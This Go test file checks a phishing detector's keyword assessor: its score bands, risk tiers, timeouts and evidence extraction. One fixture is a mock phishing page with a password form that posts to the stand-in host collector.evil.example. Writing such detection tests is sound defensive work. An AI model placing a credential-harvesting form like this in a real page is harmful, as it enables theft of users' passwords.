package assessor_test

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/raysh454/phishguard/internal/assessor"
	"github.com/raysh454/phishguard/internal/model"
	"github.com/raysh454/phishguard/internal/testutil"
)

var fixedNow = time.Date(2024, 1, 15, 14, 30, 22, 0, time.UTC)

func newAssessor(t *testing.T, s assessor.Sampler) *assessor.KeywordAssessor {
	t.Helper()
	cfg := assessor.DefaultConfig()
	cfg.Delay = 0
	a, err := assessor.NewKeywordAssessor(cfg, &testutil.DummyLogger{},
		assessor.WithSampler(s),
		assessor.WithClock(func() time.Time { return fixedNow }))
	require.NoError(t, err)
	t.Cleanup(func() { a.Close() })
	return a
}

func TestNewKeywordAssessor_NilLogger(t *testing.T) {
	_, err := assessor.NewKeywordAssessor(nil, nil)
	assert.Error(t, err)
}

func TestNewKeywordAssessor_RejectsInvertedThresholds(t *testing.T) {
	cfg := assessor.DefaultConfig()
	cfg.Thresholds = assessor.Thresholds{High: 0.3, Medium: 0.6}
	_, err := assessor.NewKeywordAssessor(cfg, &testutil.DummyLogger{})
	assert.Error(t, err)
}

func TestKeywordAssessor_SuspiciousScoreBand(t *testing.T) {
	inputs := []struct{ url, content string }{
		{"https://SECURE-login.example", ""},
		{"https://example.com", "Your account is SUSPENDED"},
		{"paypal-security-check.org", ""},
		{"example.com", "please click here"},
	}
	samples := []float64{0, 0.25, 0.5, 0.999999}

	for _, in := range inputs {
		for _, u := range samples {
			a := newAssessor(t, assessor.FixedSampler(u))
			r, err := a.Assess(context.Background(), in.url, in.content)
			require.NoError(t, err)
			assert.GreaterOrEqual(t, r.Score, 0.6, "url=%q u=%v", in.url, u)
			assert.Less(t, r.Score, 1.0, "url=%q u=%v", in.url, u)
			assert.Equal(t, "Suspicious patterns detected", r.Features.ContentAnalysis)
		}
	}
}

func TestKeywordAssessor_CleanScoreBand(t *testing.T) {
	for _, u := range []float64{0, 0.3, 0.7, 0.999999} {
		a := newAssessor(t, assessor.FixedSampler(u))
		r, err := a.Assess(context.Background(), "https://github.com", "release notes")
		require.NoError(t, err)
		assert.GreaterOrEqual(t, r.Score, 0.0)
		assert.Less(t, r.Score, 0.3)
		assert.Equal(t, model.RiskLow, r.RiskLevel)
		assert.Equal(t, "Clean content", r.Features.ContentAnalysis)
	}
}

func TestKeywordAssessor_OutOfRangeSamplerIsClamped(t *testing.T) {
	a := newAssessor(t, assessor.FixedSampler(1.5))
	r, err := a.Assess(context.Background(), "bank.example", "")
	require.NoError(t, err)
	assert.Less(t, r.Score, 1.0)

	a = newAssessor(t, assessor.FixedSampler(-2))
	r, err = a.Assess(context.Background(), "example.org", "")
	require.NoError(t, err)
	assert.Equal(t, 0.0, r.Score)
}

func TestKeywordAssessor_ExactResult(t *testing.T) {
	// 0.6 + 0.4*0.5 = 0.8
	a := newAssessor(t, assessor.FixedSampler(0.5))
	r, err := a.Assess(context.Background(), "https://Secure-Bank-Verification.net", "")
	require.NoError(t, err)

	assert.Equal(t, "https://Secure-Bank-Verification.net", r.URL, "url keeps original casing")
	assert.InDelta(t, 0.8, r.Score, 1e-9)
	assert.Equal(t, 0.92, r.Confidence)
	assert.Equal(t, model.RiskHigh, r.RiskLevel)
	assert.Equal(t, fixedNow, r.Timestamp)
	assert.Equal(t, model.Features{
		DomainAge:       "< 30 days",
		SSLCertificate:  "Invalid/Missing",
		ContentAnalysis: "Suspicious patterns detected",
		ReputationScore: 20,
	}, r.Features)
	assert.Equal(t, assessor.ExplanationFor(model.RiskHigh), r.Explanation)
	assert.Equal(t, model.SeverityDestructive, r.Notification.Severity)
	assert.Equal(t, "keyword-v1", r.Version)
}

func TestKeywordAssessor_MediumTierKeepsIndependentFeatureThresholds(t *testing.T) {
	// 0.6 + 0.4*0.1 = 0.64: MEDIUM tier, young-domain bucket not reached,
	// certificate bucket (> 0.5) reached.
	a := newAssessor(t, assessor.FixedSampler(0.1))
	r, err := a.Assess(context.Background(), "verify-account.example", "")
	require.NoError(t, err)

	assert.Equal(t, model.RiskMedium, r.RiskLevel)
	assert.Equal(t, "2+ years", r.Features.DomainAge)
	assert.Equal(t, "Invalid/Missing", r.Features.SSLCertificate)
	assert.Equal(t, 36, r.Features.ReputationScore)
}

func TestKeywordAssessor_EmptyURL(t *testing.T) {
	a := newAssessor(t, assessor.FixedSampler(0))
	_, err := a.Assess(context.Background(), "   ", "bank")
	assert.True(t, errors.Is(err, assessor.ErrInvalidInput))
}

func TestKeywordAssessor_AcceptsNonURLText(t *testing.T) {
	a := newAssessor(t, assessor.FixedSampler(0.2))
	r, err := a.Assess(context.Background(), "not a url at all", "")
	require.NoError(t, err)
	assert.Equal(t, "not a url at all", r.URL)
}

func TestKeywordAssessor_Closed(t *testing.T) {
	a := newAssessor(t, assessor.FixedSampler(0))
	require.NoError(t, a.Close())
	_, err := a.Assess(context.Background(), "example.com", "")
	assert.ErrorIs(t, err, assessor.ErrServiceUnavailable)
}

func TestKeywordAssessor_DelayHonoursCancellation(t *testing.T) {
	cfg := assessor.DefaultConfig()
	cfg.Delay = time.Hour
	a, err := assessor.NewKeywordAssessor(cfg, &testutil.DummyLogger{})
	require.NoError(t, err)

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	r, err := a.Assess(ctx, "example.com", "")
	assert.Nil(t, r)
	assert.ErrorIs(t, err, context.Canceled)
	assert.NotErrorIs(t, err, assessor.ErrTimeout)
}

func TestKeywordAssessor_DeadlineIsTimeout(t *testing.T) {
	cfg := assessor.DefaultConfig()
	cfg.Delay = time.Hour
	a, err := assessor.NewKeywordAssessor(cfg, &testutil.DummyLogger{})
	require.NoError(t, err)

	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Millisecond)
	defer cancel()
	_, err = a.Assess(ctx, "example.com", "")
	assert.ErrorIs(t, err, assessor.ErrTimeout)
	assert.ErrorIs(t, err, context.DeadlineExceeded)
}

func TestKeywordAssessor_DelayElapses(t *testing.T) {
	cfg := assessor.DefaultConfig()
	cfg.Delay = 20 * time.Millisecond
	a, err := assessor.NewKeywordAssessor(cfg, &testutil.DummyLogger{}, assessor.WithSampler(assessor.FixedSampler(0)))
	require.NoError(t, err)

	start := time.Now()
	_, err = a.Assess(context.Background(), "example.com", "")
	require.NoError(t, err)
	assert.GreaterOrEqual(t, time.Since(start), 20*time.Millisecond)
}

func TestKeywordAssessor_MatchedKeywords(t *testing.T) {
	a := newAssessor(t, assessor.FixedSampler(0))
	got := a.MatchedKeywords("https://PayPal-verify.net", "URGENT action")
	assert.Equal(t, []string{"verify", "urgent", "paypal"}, got)
	assert.Empty(t, a.MatchedKeywords("github.com", ""))
}

func TestKeywordAssessor_ContentEvidence(t *testing.T) {
	html := `<html><body>
<form action="https://collector.evil.example/post"><input TYPE="Password" name="p"></form>
<meta http-equiv="Refresh" content="0;url=https://x">
</body></html>`
	a := newAssessor(t, assessor.FixedSampler(0))
	r, err := a.Assess(context.Background(), "https://bank.example/login", html)
	require.NoError(t, err)

	keys := make([]string, 0, len(r.Evidence))
	for _, ev := range r.Evidence {
		keys = append(keys, ev.Key)
	}
	assert.Equal(t, []string{"suspicious-keywords", "password-input", "external-form-action", "meta-refresh"}, keys)
}

func TestKeywordAssessor_EvidenceDoesNotAffectScore(t *testing.T) {
	a := newAssessor(t, assessor.FixedSampler(0.5))
	plain, err := a.Assess(context.Background(), "https://example.com", "")
	require.NoError(t, err)
	withForm, err := a.Assess(context.Background(), "https://example.com", `<form action="https://other.example"><input type="password"></form>`)
	require.NoError(t, err)

	assert.Equal(t, plain.Score, withForm.Score)
	assert.NotEmpty(t, withForm.Evidence)
	assert.Empty(t, plain.Evidence)
}

func TestKeywordAssessor_PlainContentIsNotParsedAsHTML(t *testing.T) {
	a := newAssessor(t, assessor.FixedSampler(0))
	r, err := a.Assess(context.Background(), "example.com", strings.Repeat("hello world ", 10))
	require.NoError(t, err)
	assert.Empty(t, r.Evidence)
}
